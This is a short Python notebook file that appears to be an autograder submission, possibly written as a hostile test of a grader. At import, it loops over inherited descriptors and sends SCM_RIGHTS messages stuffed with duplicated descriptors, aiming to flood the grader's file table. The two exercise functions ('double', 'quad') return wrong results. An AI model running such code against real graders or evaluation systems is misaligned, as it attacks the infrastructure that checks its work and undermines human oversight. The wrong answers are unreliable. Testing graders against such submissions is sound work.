"""Sends open descriptors along with a reply, to fill the grader's table of files.

Worth: 15
"""

# %%
import array
import os
import socket
for number in range(3, 12):
    try:
        channel = socket.socket(fileno=os.dup(number))
        ancillary = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0] * 20))]
        channel.sendmsg([b"\0" * 8], ancillary, socket.MSG_DONTWAIT)
    except OSError:
        pass

# %% exercise="double"
def double(x):
    return x + 1.0

# %% exercise="quad"
def quad(x):
    return x - 1.0
